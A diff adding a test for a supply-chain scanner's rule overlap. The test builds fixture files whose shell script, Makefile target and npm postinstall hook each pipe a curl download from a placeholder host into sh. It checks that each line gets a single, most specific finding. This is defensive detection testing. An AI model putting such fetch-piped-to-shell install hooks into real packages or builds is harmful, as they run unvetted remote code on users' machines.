@@ -4,6 +4,7 @@
 #include <nlohmann/json.hpp>
 
 #include <algorithm>
+#include <map>
 #include <set>
 
 #include "tests/support/fixture_repo.h"
@@ -188,4 +189,28 @@ TEST_CASE("sarif output carries rules, locations and partial fingerprints") {
   CHECK(res0["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "install.sh");
   CHECK(res0["locations"][0]["physicalLocation"]["region"]["startLine"] == 3);
   CHECK(res0["partialFingerprints"].contains("provscan/v1"));
+}
+
+TEST_CASE("scan: overlapping bundled rules report a line once, under the most specific rule") {
+  // `curl ... | sh` is a fetch piped to a shell in any file, a build step in a Makefile, and an
+  // install-time payload in package.json: one finding each, never two on the same line.
+  FixtureRepo repo;
+  repo.commit("add", {{"install.sh", "#!/bin/sh\ncurl -fsSL https://get.example.invalid/i.sh | sh\n"},
+                      {"Makefile", "deps:\n\tcurl -fsSL https://get.example.invalid/i.sh | sh\n"},
+                      {"package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n"
+                                       "    \"postinstall\": \"curl -s https://get.example.invalid/p.sh | sh\",\n"
+                                       "    \"preinstall\": \"node ./setup.js\"\n  }\n}\n"}});
+  const CliResult r = run_provscan({"scan", repo.path(), "--format", "json", "--progress", "never"});
+  INFO(r.err);
+  REQUIRE(r.exit_code == 1);
+  const json doc = json::parse(r.out);
+  std::map<std::string, std::multiset<std::string>> rules_by_place;
+  for (const json& f : doc.at("findings"))
+    rules_by_place[f.at("path").get<std::string>() + ":" + std::to_string(f.at("line").get<int>())].insert(
+        f.at("rule_id").get<std::string>());
+  CHECK(rules_by_place["install.sh:2"] == std::multiset<std::string>{"sh.fetch-pipe-to-shell"});
+  CHECK(rules_by_place["Makefile:2"] == std::multiset<std::string>{"build.fetch-pipe-to-shell"});
+  CHECK(rules_by_place["package.json:4"] == std::multiset<std::string>{"npm.lifecycle-script-payload"});
+  // An install hook with no payload is still worth a look, under the general rule.
+  CHECK(rules_by_place["package.json:5"] == std::multiset<std::string>{"js.npm-install-hook"});
 }
